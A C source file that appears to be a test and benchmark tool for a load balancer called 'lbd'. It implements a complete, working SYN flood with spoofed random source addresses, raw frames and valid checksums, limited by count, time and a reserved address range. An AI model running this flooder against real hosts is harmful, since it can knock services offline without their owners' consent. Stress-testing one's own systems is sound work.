/* A bounded SYN flood for lbd's tests and benchmarks, as an attacker sends one: TCP SYNs
 * from random spoofed sources, raw Ethernet frames on an AF_PACKET socket (so the sender's
 * kernel keeps no state), valid IP and TCP checksums (lbd checks those of a SYN).
 *
 *   synflood IFACE DST_MAC DST_IP DST_PORT COUNT SECONDS [RATE]
 *
 * sends COUNT SYNs, or for SECONDS, whichever ends first, at RATE frames/s (0 or absent: as
 * fast as the socket takes them), from addresses in 198.18.1.0-198.19.255.255 (inside
 * 198.18.0.0/15, never the lab's hosts in 198.18.0.0/24) and random ports; prints what it
 * sent. Run it only inside a network namespace of your own. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { kFrame = 54, kBatch = 128 };

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint64_t rng = 0x9e3779b97f4a7c15ULL;
static uint64_t next_random(void) {
  rng ^= rng << 13;
  rng ^= rng >> 7;
  rng ^= rng << 17;
  return rng;
}

static uint16_t fold(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}
static uint32_t add16(const uint8_t *p, size_t n, uint32_t sum) {
  for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  return sum;
}

static void put16(uint8_t *p, uint16_t v) {
  p[0] = (uint8_t)(v >> 8);
  p[1] = (uint8_t)v;
}

/* One SYN from a random source to dst:port, checksums complete. */
static void make_syn(uint8_t *f, const uint8_t *dst_mac, const uint8_t *src_mac, uint32_t dst, uint16_t port) {
  memset(f, 0, kFrame);
  memcpy(f, dst_mac, 6);
  memcpy(f + 6, src_mac, 6);
  put16(f + 12, 0x0800);
  uint8_t *ip = f + 14, *tcp = f + 34;
  const uint32_t src = 0xc6120100u + (uint32_t)(next_random() % (0x20000u - 0x100u)); /* 198.18.1.0 .. 198.19.255.255 */
  ip[0] = 0x45;
  put16(ip + 2, 40);
  put16(ip + 4, (uint16_t)next_random());
  put16(ip + 6, 0x4000); /* DF */
  ip[8] = 64;
  ip[9] = 6;
  const uint32_t s = htonl(src), d = htonl(dst);
  memcpy(ip + 12, &s, 4);
  memcpy(ip + 16, &d, 4);
  put16(ip + 10, fold(add16(ip, 20, 0)));
  put16(tcp, (uint16_t)(1024 + next_random() % 64000));
  put16(tcp + 2, port);
  const uint32_t seq = (uint32_t)next_random();
  memcpy(tcp + 4, &seq, 4);
  tcp[12] = 0x50;
  tcp[13] = 0x02; /* SYN */
  put16(tcp + 14, 64240);
  uint32_t sum = add16(ip + 12, 8, 0) + 6 + 20; /* pseudo-header */
  put16(tcp + 16, fold(add16(tcp, 20, sum)));
}

int main(int argc, char **argv) {
  if (argc < 7) {
    fprintf(stderr, "usage: synflood IFACE DST_MAC DST_IP DST_PORT COUNT SECONDS [RATE]\n");
    return 2;
  }
  uint8_t dst_mac[6];
  if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dst_mac[0], &dst_mac[1], &dst_mac[2], &dst_mac[3],
             &dst_mac[4], &dst_mac[5]) != 6) {
    fprintf(stderr, "synflood: bad MAC %s\n", argv[2]);
    return 2;
  }
  struct in_addr dst;
  if (inet_pton(AF_INET, argv[3], &dst) != 1) {
    fprintf(stderr, "synflood: bad address %s\n", argv[3]);
    return 2;
  }
  const uint16_t port = (uint16_t)atoi(argv[4]);
  const unsigned long count = strtoul(argv[5], NULL, 10);
  const double secs = atof(argv[6]);
  const double rate = argc > 7 ? atof(argv[7]) : 0;
  if (!count || secs <= 0) {
    fprintf(stderr, "synflood: COUNT and SECONDS must be positive (the flood is bounded)\n");
    return 2;
  }
  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) { perror("socket"); return 1; }
  struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1]), .sll_halen = 6};
  if (!sll.sll_ifindex) { perror(argv[1]); return 1; }
  memcpy(sll.sll_addr, dst_mac, 6);
  uint8_t src_mac[6] = {0x02, 0x5f, 0x10, 0x0d, 0, 1};
  char path[256];
  snprintf(path, sizeof path, "/sys/class/net/%s/address", argv[1]);
  FILE *m = fopen(path, "r");
  if (m) {
    if (fscanf(m, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &src_mac[0], &src_mac[1], &src_mac[2], &src_mac[3],
               &src_mac[4], &src_mac[5]) != 6)
      fprintf(stderr, "synflood: %s unreadable, using a made-up source MAC\n", path);
    fclose(m);
  }
  rng ^= (uint64_t)getpid() << 32 ^ (uint64_t)(now() * 1e6);
  static uint8_t frames[kBatch][kFrame];
  struct mmsghdr msgs[kBatch];
  struct iovec iov[kBatch];
  for (int i = 0; i < kBatch; ++i) {
    iov[i].iov_base = frames[i];
    iov[i].iov_len = kFrame;
    memset(&msgs[i], 0, sizeof msgs[i]);
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
    msgs[i].msg_hdr.msg_name = &sll;
    msgs[i].msg_hdr.msg_namelen = sizeof sll;
  }
  unsigned long sent = 0;
  const double start = now();
  double elapsed = 0;
  while (sent < count && (elapsed = now() - start) < secs) {
    if (rate > 0 && sent > rate * elapsed) {  /* ahead of the rate: wait a little */
      usleep(200);
      continue;
    }
    unsigned long n = count - sent < kBatch ? count - sent : kBatch;
    for (unsigned long i = 0; i < n; ++i) make_syn(frames[i], dst_mac, src_mac, ntohl(dst.s_addr), port);
    const int k = sendmmsg(fd, msgs, (unsigned)n, 0);
    if (k > 0) sent += (unsigned long)k;
    else usleep(100); /* the queue is full: the device drops, so do we */
  }
  elapsed = now() - start;
  printf("sent %lu SYNs in %.2f s (%.0f/s)\n", sent, elapsed, sent / (elapsed > 0 ? elapsed : 1));
  close(fd);
  return 0;
}
